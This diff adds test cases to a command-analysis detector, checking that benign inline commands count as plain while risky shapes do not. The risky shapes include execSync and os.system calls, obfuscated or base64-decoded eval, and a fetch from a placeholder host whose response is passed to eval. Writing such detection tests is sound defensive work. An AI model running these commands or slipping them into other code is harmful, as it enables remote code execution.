@@ -176,6 +176,20 @@ describe('malicious shapes', () => {
     ]) {
       assert.ok(kinds(cmd).has('inline-code'), cmd);
     }
+    // Plain inline code (nothing risky in its text) is marked so a manually run command can treat it as context.
+    const plain = (cmd: string): boolean | undefined => analyzeCommand(cmd).signals.find(s => s.kind === 'inline-code')?.plain;
+    assert.equal(plain('bash -c "npm run build"'), true);
+    assert.equal(plain("node -e \"require('fs').renameSync('a.ts', 'a.mts')\""), true);
+    for (const cmd of [
+      "node -e \"require('child_process').execSync('id')\"",
+      'node -e "fetch(\'https://x.example.invalid\').then(r => r.text()).then(eval)"',
+      'node -e "new Function(atob(\'YQ==\'))()"',
+      "node -e \"globalThis['ev' + 'al']('1')\"",
+      'node -e "require(process.argv[1])"',
+      'python -c "import os; os.system(\'id\')"',
+    ]) {
+      assert.notEqual(plain(cmd), true, cmd);
+    }
     const a = analyzeCommand('node -e "eval(Buffer.from(process.argv[1], \'base64\').toString())" aGk=');
     assert.ok(a.signals.some(s => s.kind === 'base64-decode'));
   });
